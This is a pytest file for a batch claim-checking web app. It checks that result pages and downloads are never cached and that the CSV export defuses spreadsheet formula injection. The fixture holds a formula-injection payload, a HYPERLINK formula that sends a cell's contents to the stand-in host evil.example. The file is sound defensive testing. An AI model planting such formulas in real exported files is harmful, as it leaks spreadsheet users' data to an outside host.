"""The batch page's results and downloads: never cached (`Cache-Control: no-store`), and a CSV download in
which no cell is a live spreadsheet formula. Fake encoder, no model."""

import csv
import io
import json

import pytest

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def uploaded(fake_client):
    body = "".join(json.dumps(r) + "\n" for r in [
        {"id": "=id", "claim": EVIL + " Afghan troops fled into Tajikistan", EVIL: "@SUM(1)", "n": "-3"},
        {"id": "+2", "claim": "-1,000 troops fled"},
        {"id": "@3", "claim": ""},
    ])
    response = fake_client.post("/batch/", data={"claims": (io.BytesIO(body.encode()), "claims.jsonl")},
                                content_type="multipart/form-data")
    assert response.status_code == 303
    return response.headers["Location"].rstrip("/")


@pytest.mark.parametrize("suffix", ["", "/results.csv", "/results.jsonl"])
def test_results_page_and_downloads_are_not_stored_by_any_cache(fake_client, uploaded, suffix):
    response = fake_client.get(uploaded + suffix)
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"


def test_the_csv_download_holds_no_formula_and_the_jsonl_download_holds_the_input_verbatim(fake_client, uploaded):
    text = fake_client.get(uploaded + "/results.csv").get_data(as_text=True)
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert "'" + EVIL in header
    for row in rows:
        for name, cell in zip(header, row):
            assert name in {"confidence", "top_score", "line"} or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    named = [dict(zip(header, r)) for r in rows]
    assert [r["id"] for r in named] == ["'=id", "'+2", "'@3"] and named[0]["claim"].startswith("'" + EVIL)
    assert named[0]["'" + EVIL] == "'@SUM(1)" and named[0]["n"] == "'-3" and named[1]["claim"] == "'-1,000 troops fled"
    records = [json.loads(line) for line in fake_client.get(uploaded + "/results.jsonl").get_data(as_text=True).splitlines()]
    assert records[0]["id"] == "=id" and records[0]["extra"] == {EVIL: "@SUM(1)", "n": "-3"}
